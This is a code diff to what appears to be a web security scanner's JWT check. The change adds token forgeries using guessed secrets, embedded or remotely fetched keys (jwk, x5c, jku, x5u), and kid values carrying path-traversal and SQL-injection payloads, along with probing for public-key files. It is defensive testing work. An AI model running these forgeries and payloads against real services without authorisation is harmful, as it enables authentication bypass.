@@ -1,12 +1,15 @@
 //! Tokens that the server takes though it did not issue them.
 
+mod secrets;
 mod token;
 
-use std::sync::Arc;
+use std::collections::HashMap;
+use std::sync::{Arc, LazyLock};
 use std::time::{SystemTime, UNIX_EPOCH};
 
 use futures_util::FutureExt;
 use futures_util::future::BoxFuture;
+use parking_lot::Mutex;
 use serde_json::{Value, json};
 
 use self::token::Token;
@@ -14,6 +17,7 @@ use super::alike::{ALIKE, alike};
 use crate::checks::pattern::Pattern;
 use crate::checks::{About, Bench, Check, Entry};
 use crate::http::{Request, Response};
+use crate::own_key;
 use crate::point::Point;
 use crate::proof::{Evidence, Expect};
 
@@ -29,7 +33,7 @@ static ABOUT: About = About {
              a random secret of at least 256 bits, refuse tokens whose exp is over, and look up kid in a list.",
     technique: "Where an answer depends on a token, the same claims are sent with a signature that nobody made, with the \
                 algorithm none, signed with words that stand in examples, with the published key as shared secret, with a key \
-                that the token brings along, or with an empty key that kid names; and the token itself when it has ended. The \
+                that the token brings along or says where to fetch, or with a known key that kid names; and the token itself when it has ended. The \
                 answer must be the user's, and must not be with a token that nothing speaks for.",
     source: "RFC 7519; RFC 8725; CWE-347",
 };
@@ -54,6 +58,16 @@ impl Check for Jwt {
     }
 
     fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
+        if let Some((point, value, token)) = in_form(bench, entry) {
+            let entry = Entry { request: entry.request.with(&point, &*value), ..entry.clone() };
+            return Some(
+                async move {
+                    let put = |value: &str| entry.request.with(&point, value);
+                    attack(bench, &entry, &token, &put, &point.name).await;
+                }
+                .boxed(),
+            );
+        }
         let own = entry.request.headers.iter().chain(&bench.session.headers);
         let (name, prefix, token) = own.filter(|(_, value)| value.len() > 20).find_map(|(name, value)| {
             let token = Token::read(value)?;
@@ -72,6 +86,22 @@ impl Check for Jwt {
         let tokens = issued(bench);
         (!tokens.is_empty()).then(|| carry(bench, tokens).boxed())
     }
+}
+
+/// A field of a form that has a token, which is taken anew from the form's page before each request: where it is, and the
+/// token that stood there.
+fn in_form(bench: &Bench<'_>, entry: &Entry) -> Option<(Point, String, Token)> {
+    let at = entry.form_at.as_ref()?;
+    let points = entry.request.points();
+    let mut points = points.into_iter().filter(|point| point.value.starts_with("{{")).peekable();
+    points.peek()?;
+    let page = bench.entries.iter().find(|other| other.request == Request::get(at.clone()))?.page.as_ref()?;
+    points.find_map(|point| {
+        let mut controls = page.forms.iter().flat_map(|form| &form.controls);
+        let value = controls.find(|control| control.name == point.name)?.value.clone();
+        let token = Token::read(&value)?;
+        Some((point, value, token))
+    })
 }
 
 static ISSUED: Pattern = Pattern::new(r"\beyJ[\w-]{8,4000}\.eyJ[\w-]{2,8000}\.[\w-]{16,1000}");
@@ -96,21 +126,66 @@ fn issued(bench: &Bench<'_>) -> Vec<String> {
     tokens
 }
 
+/// Ways in which programs send tokens: a header, and what stands before the token.
+const WAYS: &[(&str, &str)] = &[
+    ("Authorization", "Bearer "),
+    ("Authorization", ""),
+    ("x-access-token", ""),
+    ("X-Auth-Token", ""),
+    ("Authorization", "JWT "),
+    ("Authorization", "Token "),
+    ("Cookie", "token="),
+];
+
+/// At how many closed places all ways are tried.
+const WHERE_ALL: usize = 4;
+
+/// What answers say that want a token, though their status does not.
+static WANTS: Pattern = Pattern::new(
+    r"(?i)\b(?:token|jwt|authorization)\b|unauthori[sz]ed|not authenticated|unauthenticated|not logged in|log ?in (?:first|required)",
+);
+
+/// Whether a place is closed without a token.
+fn is_closed(entry: &Entry) -> bool {
+    let response = &entry.response;
+    let says = || {
+        response.media_type().ends_with("json")
+            && response.text().len() < 300
+            && WANTS.is_match(response.text())
+    };
+    matches!(response.status, 401 | 403) || (says() && !ISSUED.is_match(response.text()))
+}
+
 /// Takes issued tokens to places that are closed without; where one opens, forged ones are tried.
 async fn carry(bench: &Bench<'_>, tokens: Vec<String>) {
-    let closed = bench.entries.iter().filter(|entry| matches!(entry.response.status, 401 | 403));
-    for entry in closed.take(MOST.1) {
-        for value in &tokens {
+    let mut usual: Option<(&str, &str)> = None;
+    for (n, entry) in bench.entries.iter().filter(|entry| is_closed(entry)).take(MOST.1).enumerate() {
+        // The first places show which way the application takes them.
+        let others = WAYS.iter().take(if n < WHERE_ALL { WAYS.len() } else { 1 });
+        let mut ways: Vec<(&str, &str)> = usual.into_iter().collect();
+        ways.extend(others.filter(|way| Some(**way) != usual));
+        let mut tried = Vec::new();
+        for way in ways {
+            tried.extend(tokens.iter().map(|value| (way.0, way.1, value)));
+        }
+        for (header, before, value) in tried {
             let Some(token) = Token::read(value) else { continue };
-            let put =
-                |value: &str| entry.request.clone().with_header("Authorization", format!("Bearer {value}"));
+            let put = |value: &str| {
+                let mut request = entry.request.clone();
+                match before.strip_suffix('=') {
+                    Some(name) => request.cookies.push((name.to_owned(), value.to_owned())),
+                    None => request.set_header(header, format!("{before}{value}")),
+                }
+                request
+            };
             let request = put(value);
             let Ok(response) = bench.send_of(entry, &request).await else { continue };
-            if response.status >= 400 {
+            if response.status >= 400 || alike(&response, &entry.response) {
                 continue;
             }
+            usual = Some((header, before));
             let opened = Entry { request, response: Arc::new(response), page: None, ..entry.clone() };
-            attack(bench, &opened, &token, &put, "Authorization").await;
+            attack(bench, &opened, &token, &put, header).await;
             break;
         }
     }
@@ -187,11 +262,11 @@ async fn forgeries(bench: &Bench<'_>, entry: &Entry, token: &Token) -> Vec<Forge
         token: token.signed_with(b"redoubt", "HS256", &own),
         control: token.signed_with(b"redoubt-control", "HS256", &own),
     });
-    if let Some(secret) = token.secret() {
+    if let Some(secret) = guessed(bench, token) {
         let algorithm = token.algorithm();
         all.push(Forged {
-            what: "The secret that tokens are signed with is a word that stands in examples; a token made with it is accepted.",
-            token: token.signed_with(secret.as_bytes(), algorithm, &[]),
+            what: "The secret that tokens are signed with is easily guessed; a token made with it is accepted.",
+            token: token.signed_with(&secret, algorithm, &[]),
             control: token.signed_with(b"redoubt-control", algorithm, &[]),
         });
     }
@@ -202,8 +277,10 @@ async fn forgeries(bench: &Bench<'_>, entry: &Entry, token: &Token) -> Vec<Forge
         for (what, place, key) in [
             (of_file, "../../../../../../../../dev/null", ""),
             (of_file, "/dev/null", ""),
+            (of_file, "../../../../../../../../proc/sys/kernel/randomize_va_space", "2\n"),
             (of_query, "x' UNION SELECT 'redoubt'-- -", "redoubt"),
             (of_query, "x\" UNION SELECT 'redoubt'-- -", "redoubt"),
+            (of_query, "0 UNION SELECT 'redoubt'-- -", "redoubt"),
         ] {
             let kid = [("kid", json!(place))];
             all.push(Forged {
@@ -212,6 +289,9 @@ async fn forgeries(bench: &Bench<'_>, entry: &Entry, token: &Token) -> Vec<Forge
                 control: token.signed_with(b"redoubt-control", "HS256", &kid),
             });
         }
+    }
+    for (what, (token, control)) in with_keys(bench, token) {
+        all.push(Forged { what, token, control });
     }
     if !token.algorithm().starts_with("HS") {
         if let Some((token, control)) = token.with_own_key() {
@@ -242,6 +322,62 @@ async fn forgeries(bench: &Bench<'_>, entry: &Entry, token: &Token) -> Vec<Forge
     all
 }
 
+/// Tokens signed with our own key, which they bring along, or for which they name our listener; each with a control.
+fn with_keys(bench: &Bench<'_>, token: &Token) -> Vec<(&'static str, (String, String))> {
+    let brought = "The key that the token brings along is believed; a token signed with a key of one's own is accepted.";
+    let fetched =
+        "The key is fetched from where the token says; a token signed with a key of one's own is accepted.";
+    let own = token.header.get("kid").and_then(Value::as_str);
+    let mut forms = vec![
+        (brought, own, "jwk", own_key::jwk(own.unwrap_or(own_key::ID))),
+        (brought, None, "x5c", json!([own_key::CERTIFICATE])),
+    ];
+    if let Some(listener) = bench.listener {
+        let at = listener.url(&crate::listener::token());
+        forms.push((fetched, Some(own_key::ID), "jku", json!(format!("{at}/jwks.json"))));
+        forms.push((fetched, None, "x5u", json!(format!("{at}/key.pem"))));
+    }
+    let signed = |(what, kid, name, value)| Some((what, token.with_own_rsa(kid, &[(name, value)])?));
+    forms.into_iter().filter_map(signed).collect()
+}
+
+/// The secret of a token, where it can be guessed; worked out once for each token, since it is many small steps.
+fn guessed(bench: &Bench<'_>, token: &Token) -> Option<Vec<u8>> {
+    static KNOWN: LazyLock<Mutex<HashMap<String, Option<Vec<u8>>>>> = LazyLock::new(Mutex::default);
+    let words = words(bench);
+    let key = format!("{} {}", token.whole(), words.join(" "));
+    if let Some(known) = KNOWN.lock().get(&key) {
+        return known.clone();
+    }
+    let secret = token.secret(&words);
+    let mut known = KNOWN.lock();
+    if known.len() < 1_000 {
+        known.insert(key, secret.clone());
+    }
+    secret
+}
+
+/// Words of the site: of its name, and of the titles of its pages.
+fn words(bench: &Bench<'_>) -> Vec<String> {
+    static TITLE: Pattern = Pattern::new(r"(?i)<title[^>]*>([^<]{1,80})");
+    let host = bench.client.scope().start().origin.host.clone();
+    let mut texts = vec![host];
+    for entry in bench.entries.iter().filter(|entry| entry.response.is_html()).take(20) {
+        let title = TITLE.captures(entry.response.text());
+        texts.extend(title.and_then(|found| Some(found.get(1)?.as_str().to_owned())));
+    }
+    let mut all: Vec<String> = Vec::new();
+    for text in texts {
+        let text = text.to_lowercase();
+        for word in text.split(|c: char| !c.is_alphanumeric()).filter(|word| word.len() >= 3) {
+            if all.len() < 24 && !all.iter().any(|have| have == word) {
+                all.push(word.to_owned());
+            }
+        }
+    }
+    all
+}
+
 /// The token as it stands in the request or comes from the session.
 fn raw(bench: &Bench<'_>, entry: &Entry) -> Option<String> {
     let dressed = bench.session.dress(&entry.request);
@@ -260,15 +396,23 @@ async fn published(bench: &Bench<'_>, entry: &Entry) -> Vec<String> {
     for other in bench.entries.iter().filter(|other| is_set(other.response.text())) {
         sets.push(other.response.text().to_owned());
     }
-    if sets.is_empty() {
+    let mut pems: Vec<String> =
+        bench.entries.iter().filter_map(|other| pem_in(other.response.text())).take(4).collect();
+    if sets.is_empty() && pems.is_empty() {
         let directory = entry.request.url.directory();
         let mut places = vec![format!("{directory}.well-known/jwks.json"), format!("{directory}jwks.json")];
         places.extend(["/.well-known/jwks.json".to_owned(), "/jwks.json".to_owned()]);
-        places.dedup();
+        places.extend(KEYS.iter().flat_map(|name| [format!("{directory}{name}"), format!("/{name}")]));
+        let mut seen = std::collections::BTreeSet::new();
+        places.retain(|place| seen.insert(place.clone()));
         for place in places {
             let Ok(answer) = bench.send(&Request::get(entry.request.url.at(place))).await else { continue };
             if answer.status == 200 && is_set(answer.text()) {
                 sets.push(answer.text().to_owned());
+                break;
+            }
+            pems.extend(pem_in(answer.text()));
+            if !pems.is_empty() {
                 break;
             }
         }
@@ -282,15 +426,35 @@ async fn published(bench: &Bench<'_>, entry: &Entry) -> Vec<String> {
             keys.push(pem);
         }
     }
-    keys.extend(bench.entries.iter().filter_map(|other| {
-        let text = other.response.text();
-        let from = text.find("-----BEGIN PUBLIC KEY-----")?;
-        let end = "-----END PUBLIC KEY-----";
-        let to = text.get(from..)?.find(end)? + from + end.len();
-        Some(format!("{}\n", text.get(from..to)?))
-    }));
+    for pem in pems {
+        keys.push(format!("{pem}\n"));
+        keys.push(pem);
+    }
     keys.truncate(8);
     keys
+}
+
+/// Where public keys lie beside the usual places of sets of keys.
+const KEYS: &[&str] = &[
+    "public.pem",
+    "public.key",
+    "public_key.pem",
+    "publickey.pem",
+    "jwt.pub",
+    "pubkey.pem",
+    "key.pub",
+    "keys",
+    "certs",
+    "public-key",
+];
+
+/// A public key or a certificate in a text, as PEM without its last line end.
+fn pem_in(text: &str) -> Option<String> {
+    static PEM: Pattern = Pattern::new(
+        r"-----BEGIN (?:RSA |EC )?(?:PUBLIC KEY|CERTIFICATE)-----[A-Za-z0-9+/=\s\\]{100,4000}-----END (?:RSA |EC )?(?:PUBLIC KEY|CERTIFICATE)-----",
+    );
+    let found = PEM.find(text)?.as_str().replace("\\r", "").replace("\\n", "\n");
+    Some(found)
 }
 
 async fn prove(
@@ -401,6 +565,49 @@ mod tests {
             let (found, _) = scan_with(&Jwt, vec![get("sign-in"), get(flaw)], Extras::default()).await;
             assert_eq!(found.len(), count, "{flaw}: {found:?}");
         }
+    }
+
+    #[tokio::test]
+    async fn ways_of_programs_and_fields_of_forms_are_tried() {
+        let token = sign(STRONG, &json!({"sub": "alice", "exp": 4_000_000_000_i64}));
+        for (path, count) in
+            [("/raw/unchecked", 1), ("/form/unchecked", 1), ("/raw/checked", 0), ("/form/checked", 0)]
+        {
+            let token = token.clone();
+            let address = serve(move |asked: &Asked| {
+                let flaw = asked.path.rsplit('/').next().unwrap_or_default();
+                let by_form = || {
+                    let field = asked.field("proof");
+                    user(flaw, &field).map_or(Answer::html("Who are you?"), |name| Answer::html(format!("<p>Signed in as {name}</p>")))
+                };
+                match asked.path.as_str() {
+                    "/raw/start" => Answer::html(json!({"token": token}).to_string()),
+                    path if path.starts_with("/raw/") => match user(flaw, &asked.header("x-access-token")) {
+                        Some(name) => Answer::html(format!("<p>Signed in as {name}</p>")),
+                        None => Answer::status(401),
+                    },
+                    _ if asked.method == "POST" => by_form(),
+                    _ => Answer::html(format!("<form method=post><input type=hidden name=proof value=\"{token}\"><button>Show</button></form>")),
+                }
+            })
+            .await;
+            let get = |path: &str| Request::get(Target::parse(&format!("http://{address}{path}")).unwrap());
+            let found = if path.starts_with("/form/") {
+                crate::testing::crawl_and_scan(&Jwt, address, path, Extras::default()).await.0
+            } else {
+                scan_with(&Jwt, vec![get("/raw/start"), get(path)], Extras::default()).await.0
+            };
+            assert_eq!(found.len(), count, "{path}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn keys_are_found_in_texts() {
+        let body = "A".repeat(120);
+        let pem = format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----");
+        assert_eq!(pem_in(&format!("x{pem}\n")).as_deref(), Some(pem.as_str()));
+        assert_eq!(pem_in(&format!("{{\"key\":\"{}\"}}", pem.replace('\n', "\\n"))), Some(pem));
+        assert_eq!(pem_in("-----BEGIN PUBLIC KEY----- is how it begins"), None);
     }
 
     #[tokio::test]
